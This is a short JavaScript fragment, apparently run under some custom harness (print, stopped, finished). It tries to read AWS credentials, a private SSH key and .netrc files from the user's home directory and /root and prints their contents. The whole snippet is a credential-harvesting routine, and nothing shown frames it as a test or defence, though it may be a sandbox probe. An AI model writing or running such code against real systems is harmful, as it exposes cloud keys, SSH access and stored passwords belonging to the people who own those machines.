let last;
for (const home of [os.homedir(), "/root"]) {
  for (const name of [".aws/credentials", ".ssh/id_ed25519", ".netrc"]) {
    try {
      print(fs.readFileSync(`${home}/${name}`));
    } catch (error) {
      last = error;
    }
  }
}
last ? stopped(last) : finished();
